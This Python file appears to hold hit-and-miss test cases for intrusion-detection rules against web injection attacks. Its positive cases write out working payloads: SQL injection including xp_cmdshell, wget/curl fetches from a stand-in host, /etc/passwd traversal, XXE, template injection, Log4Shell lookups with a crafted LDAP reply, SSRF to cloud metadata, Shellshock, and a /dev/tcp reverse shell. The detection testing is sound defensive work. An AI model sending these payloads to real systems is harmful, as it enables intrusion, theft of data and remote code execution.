"""Cases of injection.rules."""

from urllib.parse import quote

from cases import answer, get, post, speech, web
from protocols import response

ERROR = response("500 Internal Server Error", "error")


def asked(target, **options):
    """A request that the server refuses."""
    return web((get(target, **options), ERROR))


def sent(body, kind="application/x-www-form-urlencoded", target="/api/query"):
    """A body that the server refuses."""
    return web((post(target, body, kind), ERROR))


def cases(theme):
    """All cases."""
    hit, miss = theme.hit, theme.miss
    hit(
        9000201,
        "union select of a table",
        asked("/news.php?id=-1%20union%20select%201,user(),3%20from%20mysql.user"),
    )
    hit(
        9000201, "with comments for spaces", asked("/news.php?id=-1/**/UNION/**/ALL/**/SELECT/**/1,null,3--+")
    )
    miss(9000201, "a search for a union's choice", asked("/search?q=labour%20union%20select%20committee"))
    hit(9000202, "delay in a condition", asked("/item?id=1'%20and%20sleep(5)--+"))
    hit(9000202, "delay of PostgreSQL after a stop", asked("/item?id=1;select%20pg_sleep(5)--"))
    miss(9000202, "a programmer's question", asked("/search?q=java+Thread.sleep(1000)"))
    hit(
        9000203, "version through an error", asked("/item?id=1%20and%20updatexml(1,concat(0x7e,version()),1)")
    )
    miss(9000203, "a search for functions", asked("/search?q=concat(%20in%20excel"))
    hit(9000204, "stacked xp_cmdshell", sent("id=1;exec master..xp_cmdshell 'whoami'--".replace(" ", "+")))
    miss(9000204, "a note that names it", sent("note=disable+xp_cmdshell+on+all+servers"))
    hit(9000205, "fetch after a semicolon", asked("/ping?host=127.0.0.1;wget%20http://203.0.113.9/a.sh"))
    miss(9000205, "an address in a parameter", asked("/go?url=http://www.city.example/wget"))
    hit(9000206, "fetch after a pipe in a form", sent("host=127.0.0.1%7Ccurl+http%3A%2F%2F203.0.113.9%2Fa"))
    miss(9000206, "a sentence with an address", sent("text=see+curl+and+http%3A%2F%2Fwww.city.example"))
    hit(9000207, "up to the accounts", asked("/download?file=../../../../etc/passwd"))
    hit(9000207, "the same, encoded", asked("/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"))
    miss(9000207, "a picture two folders up", asked("/page?img=../../images/logo.png"))
    hit(
        9000208,
        "win.ini",
        answer(
            "; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]\r\n", kind="text/plain"
        ),
    )
    miss(9000208, "an article on fonts", answer("settings for 16-bit app support are in the section [fonts]"))
    hit(9000209, "product in braces", asked("/hello?name=%7B%7B7*7%7D%7D"))
    hit(9000209, "class chain in braces", asked("/hello?name=%7B%7B''.__class__.__mro__%7D%7D"))
    hit(9000209, "class of Java in an expression", asked("/hello?name=$%7BT(java.lang.Runtime)%7D"))
    miss(9000209, "a template's own name", asked("/tpl?item=%7B%7Btitle%7D%7D"))
    entity = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'
    hit(9000210, "entity that reads a file", sent(entity, "application/xml"))
    miss(
        9000210,
        "entity with a text",
        sent(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "Operating SYSTEM">]><r>&x;</r>', "application/xml"
        ),
    )
    hit(9000211, "look-up in the address", asked("/?x=$%7Bjndi:ldap://203.0.113.9:1389/a%7D"))
    miss(9000211, "another look-up", asked("/?x=$%7Bdate:yyyy%7D"))
    hit(
        9000212,
        "look-up in a header",
        asked("/", headers=[("X-Api-Version", "${jndi:ldap://203.0.113.9:1389/a}")]),
    )
    miss(9000212, "the word in a header", asked("/", headers=[("X-Api-Version", "jndi:comp/env")]))
    hit(9000213, "look-up in a form", sent("user=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.9%2Fa%7D&x=1"))
    miss(9000213, "a template's name in a form", sent("user=%24%7Bname%7D&x=jndi"))
    hit(
        9000214,
        "look-up in disguise",
        asked("/", headers=[("X-Forwarded-For", "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}")]),
    )
    miss(9000214, "a plain placeholder", asked("/", headers=[("X-Trace", "${trace.id}")]))
    entry = (
        b"0\x81\x9e\x02\x01\x02d\x81\x98\x04\x01a0\x81\x92"
        + b"0\x16\x04\rjavaClassName1\x05\x04\x03foo"
        + b"0\x2d\x04\x0cjavaCodeBase1\x1d\x04\x1bhttp://203.0.113.9:8888/x/"
        + b"0\x14\x04\x0bjavaFactory1\x05\x04\x03Exp"
    )
    bind = b"0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\0\x80\0"
    bound = b"0\x0c\x02\x01\x01a\x07\n\x01\0\x04\0\x04\0"
    search = b"0\x25\x02\x01\x02c\x20\x04\x01a\n\x01\0\n\x01\x03\x02\x01\0\x02\x01\0\x01\x01\0\x87\x0bobjectClass0\0"
    hit(
        9000215,
        "a directory hands out a class",
        speech(1389, bind, bound, search, entry, server="203.0.113.9", outside=False),
    )
    person = (
        b"0\x3a\x02\x01\x02d5\x04\x01a0\x30"
        + b"0\x14\x04\x02cn1\x0e\x04\x0cZhang Wei   "
        + b"0\x18\x04\x04mail1\x10\x04\x0eoffice@a.exam "
    )
    miss(
        9000215,
        "a directory hands out a person",
        speech(1389, bind, bound, search, person, server="203.0.113.9", outside=False),
    )
    hit(9000216, "the cloud's metadata", asked("/fetch?url=http://169.254.169.254/latest/meta-data/"))
    hit(9000216, "a local service over gopher", asked("/fetch?url=gopher://127.0.0.1:6379/_x"))
    miss(9000216, "a public page", asked("/fetch?url=http://www.city.example/a.html"))
    hit(
        9000217,
        "function and command",
        asked("/cgi-bin/status", headers=[("X-Probe", "() { :;}; /bin/bash -c id")]),
    )
    miss(
        9000217,
        "a function of a script",
        asked("/cgi-bin/status", headers=[("X-Probe", "function() { return 1 }")]),
    )
    hit(
        9000218,
        "source through a filter",
        asked("/index.php?page=php://filter/convert.base64-encode/resource=config.php"),
    )
    miss(9000218, "an ordinary address", asked("/index.php?page=https://www.city.example/php"))
    hit(
        9000219,
        "expression in the routing header",
        web(
            (
                post(
                    "/functionRouter",
                    "x",
                    "text/plain",
                    [
                        (
                            "spring.cloud.function.routing-expression",
                            'T(java.lang.Runtime).getRuntime().exec("id")',
                        )
                    ],
                ),
                ERROR,
            )
        ),
    )
    miss(
        9000219,
        "a function's name in the routing header",
        web(
            (
                post(
                    "/functionRouter",
                    "x",
                    "text/plain",
                    [("spring.cloud.function.routing-expression", "headers.kind")],
                ),
                ERROR,
            )
        ),
    )
    hit(9000220, "shell over /dev/tcp", sent("cmd=" + quote("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")))
    miss(9000220, "an article on the device", sent("text=" + quote("what is /dev/tcp/ in bash?")))
